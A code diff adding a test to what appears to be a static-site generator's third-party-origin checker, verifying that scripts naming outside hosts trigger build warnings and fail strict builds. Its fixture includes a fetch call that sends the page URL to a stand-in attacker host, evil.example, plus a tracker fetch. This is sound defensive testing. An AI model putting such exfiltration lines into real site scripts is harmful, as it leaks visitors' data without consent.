@@ -265,3 +265,24 @@ def test_third_party_scan_shortcut_agrees_with_the_full_scan(snippet: str) -> No
         if (origin := thirdparty._origin(url)) is not None and origin != "https://example.org")
     found = thirdparty.check_files([("p/index.html", page.encode())], "https://example.org", (), "public")
     assert sorted((d.line, d.message.split(" loads ")[1].split(" from another")[0]) for d in found) == expected
+
+
+def test_a_script_file_naming_another_origin_is_warned_about(make_site) -> None:
+    # A theme's or a site's own script may fetch from elsewhere; one that only names an SVG
+    # namespace, or an allowed origin, or its own site, is fine.
+    script = ("const ns = 'http://www.w3.org/2000/svg';\n"
+              "fetch(\"https://evil.example/collect?u=\" + location.href);\n"
+              "import('https://cdn.allowed.example/x.js');\n"
+              "const own = 'https://example.org/feed.xml';\n")
+    site = make_site({"content/memories/a.md": memory("A"), "static/js/extra.js": script,
+                      "themes/default/static/js/site.js": "// a comment: //not.a.host\nfetch('//tracker.example/p');\n"},
+                     config="title: T\nbase_url: https://example.org/\n"
+                            "privacy: {allowed_origins: [https://cdn.allowed.example]}\n")
+    result = site.build()
+    assert result.exit_code == 0, result.output  # a warning: it may be a library naming what it never loads
+    lines = [line for line in result.output.splitlines() if "the script names" in line]
+    assert len(lines) == 2, lines
+    assert any(line.startswith("public/js/extra.js:2: warning:") and "https://evil.example" in line for line in lines)
+    assert any(line.startswith("public/assets/js/site.") and ":2: warning:" in line and "tracker.example" in line
+               for line in lines)
+    assert site.build("--strict").exit_code == 1
